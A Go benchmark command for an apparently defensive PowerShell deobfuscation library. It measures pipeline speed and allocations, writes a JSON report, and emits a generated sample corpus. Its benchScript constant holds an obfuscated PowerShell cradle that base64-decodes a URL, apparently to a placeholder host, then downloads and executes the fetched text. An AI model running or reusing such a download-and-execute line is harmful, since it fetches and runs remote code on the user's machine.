// Command benchjson measures the pipeline's core performance
// benchmarks in-process and writes a machine-readable JSON report
// (BENCH_pr3.json by default, see `make bench-json`). The report
// carries ns/op, allocs/op and bytes/op for the single-script,
// 16-sample batch and duplicated-family batch benchmarks, plus the
// parses-per-run and evaluation-cache counters that the performance
// acceptance criteria gate on, and the frozen PR 2 baseline the
// reductions are computed against.
//
// Usage:
//
//	benchjson [-o BENCH_pr3.json] [-benchtime 1s]
//	benchjson -emit-corpus DIR    # write the 24-sample profile corpus
//
// The -emit-corpus mode writes the deterministic 24-sample corpus as
// .ps1 files for `make profile`, which feeds them through the CLI
// under -cpuprofile/-memprofile.
package main

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"testing"
	"time"

	invokedeob "github.com/invoke-deobfuscation/invokedeob"
)

// benchScript is the paper's case-study script, kept in sync with
// bench_test.go's BenchmarkDeobfuscate.
const benchScript = "I`eX (\"{2}{0}{1}\" -f 'ost h', 'ello', 'write-h')\n" +
	"$xdjmd = 'aAB0AHQAcABzADoALwAvAHQAZQBzAHQALgBjAG'\n" +
	"$lsffs = '8AbQAvAG0AYQBsAHcAYQByAGUALgB0AHgAdAA='\n" +
	"$sdfs = [TeXT.eNcOdINg]::Unicode.GetString([Convert]::FromBase64String($xdjmd + $lsffs))\n" +
	".($psHoME[4]+$PSHOME[30]+'x') (NeW-oBJeCt Net.WebClient).downloadstring($sdfs)\n"

// pr2Baseline freezes the tip-of-PR-2 numbers (commit "Pass-pipeline
// architecture", measured with `go test -bench . -benchmem` on the
// same class of machine) that this PR's perf acceptance is gated
// against.
var pr2Baseline = benchMetrics{
	NsPerOp:     343698,
	AllocsPerOp: 2155,
	BytesPerOp:  189963,
}

type evalCacheMetrics struct {
	Hits    int64   `json:"hits"`
	Misses  int64   `json:"misses"`
	Skips   int64   `json:"skips"`
	HitRate float64 `json:"hit_rate"`
}

type benchMetrics struct {
	NsPerOp     int64             `json:"ns_per_op"`
	AllocsPerOp int64             `json:"allocs_per_op"`
	BytesPerOp  int64             `json:"bytes_per_op"`
	ParsesPerOp int64             `json:"parses_per_run,omitempty"`
	EvalCache   *evalCacheMetrics `json:"eval_cache,omitempty"`
}

type report struct {
	Generated string                  `json:"generated"`
	GoVersion string                  `json:"go_version"`
	GOOS      string                  `json:"goos"`
	GOARCH    string                  `json:"goarch"`
	Bench     map[string]benchMetrics `json:"benchmarks"`
	// DuplicatedSpeedup is cache-off ns/op divided by cache-on ns/op
	// on the duplicated-family batch (acceptance: >= 1.5).
	DuplicatedSpeedup float64 `json:"duplicated_batch_speedup"`
	// BaselinePR2 is the frozen single-script baseline from the
	// previous PR; AllocsReductionPct is the relative allocs/op
	// improvement against it (acceptance: >= 20).
	BaselinePR2        benchMetrics `json:"baseline_pr2"`
	AllocsReductionPct float64      `json:"allocs_reduction_pct"`
}

func main() {
	// Register the testing flags (test.benchtime in particular) so
	// testing.Benchmark can be tuned outside a test binary.
	testing.Init()
	var (
		out        = flag.String("o", "BENCH_pr3.json", "output file")
		benchtime  = flag.Duration("benchtime", time.Second, "per-benchmark measuring time")
		emitCorpus = flag.String("emit-corpus", "", "write the 24-sample profiling corpus to this directory and exit")
	)
	flag.Parse()
	if *emitCorpus != "" {
		if err := writeCorpus(*emitCorpus); err != nil {
			fmt.Fprintln(os.Stderr, "benchjson:", err)
			os.Exit(1)
		}
		return
	}
	rep, err := measure(*benchtime)
	if err != nil {
		fmt.Fprintln(os.Stderr, "benchjson:", err)
		os.Exit(1)
	}
	if err := writeReport(*out, rep); err != nil {
		fmt.Fprintln(os.Stderr, "benchjson:", err)
		os.Exit(1)
	}
	fmt.Printf("wrote %s: single %d allocs/op (PR2 %d, -%.1f%%), duplicated-batch speedup %.2fx\n",
		*out, rep.Bench["deobfuscate"].AllocsPerOp, rep.BaselinePR2.AllocsPerOp,
		rep.AllocsReductionPct, rep.DuplicatedSpeedup)
}

// writeReport marshals the report to path as indented JSON.
func writeReport(path string, rep *report) error {
	b, err := json.MarshalIndent(rep, "", "  ")
	if err != nil {
		return err
	}
	b = append(b, '\n')
	return os.WriteFile(path, b, 0o644)
}

// writeCorpus materializes the deterministic 24-sample corpus used by
// `make profile` as numbered .ps1 files.
func writeCorpus(dir string) error {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	samples := invokedeob.GenerateCorpus(20220627, 24)
	for i, s := range samples {
		name := filepath.Join(dir, fmt.Sprintf("%03d_%s.ps1", i, s.ID))
		if err := os.WriteFile(name, []byte(s.Source), 0o644); err != nil {
			return err
		}
	}
	fmt.Printf("wrote %d samples to %s\n", len(samples), dir)
	return nil
}

func measure(benchtime time.Duration) (*report, error) {
	rep := &report{
		Generated: time.Now().UTC().Format(time.RFC3339),
		GoVersion: runtime.Version(),
		GOOS:      runtime.GOOS,
		GOARCH:    runtime.GOARCH,
		Bench:     map[string]benchMetrics{},
	}

	// Single-script: throughput plus one instrumented run for the
	// parses-per-run and eval-cache counters.
	single := run(benchtime, func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			if _, err := invokedeob.Deobfuscate(benchScript, nil); err != nil {
				b.Fatal(err)
			}
		}
	})
	res, err := invokedeob.Deobfuscate(benchScript, nil)
	if err != nil {
		return nil, err
	}
	var parses int64
	for _, p := range res.PassTrace {
		parses += p.CacheMisses
	}
	single.ParsesPerOp = parses
	single.EvalCache = evalStats(res.Stats)
	rep.Bench["deobfuscate"] = single

	// 16-sample generated batch at 4 workers.
	batchInputs := corpusInputs(1, 16, 1)
	rep.Bench["batch_jobs4"] = run(benchtime, batchBody(batchInputs, &invokedeob.Options{Jobs: 4}))

	// Duplicated-family batch: 4 distinct samples x 4 copies,
	// sequential so the speedup isolates the cache.
	dupInputs := corpusInputs(1, 4, 4)
	on := run(benchtime, batchBody(dupInputs, &invokedeob.Options{Jobs: 1}))
	off := run(benchtime, batchBody(dupInputs, &invokedeob.Options{Jobs: 1, DisableEvalCache: true}))
	on.EvalCache = batchEvalStats(dupInputs, &invokedeob.Options{Jobs: 1})
	rep.Bench["batch_duplicated_cache_on"] = on
	rep.Bench["batch_duplicated_cache_off"] = off
	if on.NsPerOp > 0 {
		rep.DuplicatedSpeedup = float64(off.NsPerOp) / float64(on.NsPerOp)
	}

	rep.BaselinePR2 = pr2Baseline
	if pr2Baseline.AllocsPerOp > 0 {
		rep.AllocsReductionPct = 100 * (1 - float64(single.AllocsPerOp)/float64(pr2Baseline.AllocsPerOp))
	}
	return rep, nil
}

// run executes one benchmark body under testing.Benchmark with
// allocation reporting and converts the result.
func run(benchtime time.Duration, body func(b *testing.B)) benchMetrics {
	old := flag.Lookup("test.benchtime")
	if old != nil {
		old.Value.Set(benchtime.String())
	}
	r := testing.Benchmark(func(b *testing.B) {
		b.ReportAllocs()
		body(b)
	})
	return benchMetrics{
		NsPerOp:     r.NsPerOp(),
		AllocsPerOp: r.AllocsPerOp(),
		BytesPerOp:  r.AllocedBytesPerOp(),
	}
}

func corpusInputs(seed int64, n, copies int) []invokedeob.BatchInput {
	samples := invokedeob.GenerateCorpus(seed, n)
	var inputs []invokedeob.BatchInput
	for c := 0; c < copies; c++ {
		for _, s := range samples {
			inputs = append(inputs, invokedeob.BatchInput{
				Name:   fmt.Sprintf("%s#%d", s.ID, c),
				Script: s.Source,
			})
		}
	}
	return inputs
}

func batchBody(inputs []invokedeob.BatchInput, opts *invokedeob.Options) func(b *testing.B) {
	return func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			results := invokedeob.DeobfuscateBatch(context.Background(), inputs, opts)
			for _, r := range results {
				if r.Err != nil {
					b.Fatalf("%s: %v", r.Name, r.Err)
				}
			}
		}
	}
}

// batchEvalStats runs one batch and aggregates the per-script
// evaluation-cache counters.
func batchEvalStats(inputs []invokedeob.BatchInput, opts *invokedeob.Options) *evalCacheMetrics {
	agg := invokedeob.Stats{}
	for _, r := range invokedeob.DeobfuscateBatch(context.Background(), inputs, opts) {
		if r.Result == nil {
			continue
		}
		agg.EvalCacheHits += r.Result.Stats.EvalCacheHits
		agg.EvalCacheMisses += r.Result.Stats.EvalCacheMisses
		agg.EvalCacheSkips += r.Result.Stats.EvalCacheSkips
	}
	return evalStats(agg)
}

func evalStats(s invokedeob.Stats) *evalCacheMetrics {
	m := &evalCacheMetrics{
		Hits:   s.EvalCacheHits,
		Misses: s.EvalCacheMisses,
		Skips:  s.EvalCacheSkips,
	}
	if lookups := m.Hits + m.Misses; lookups > 0 {
		m.HitRate = float64(m.Hits) / float64(lookups)
	}
	return m
}
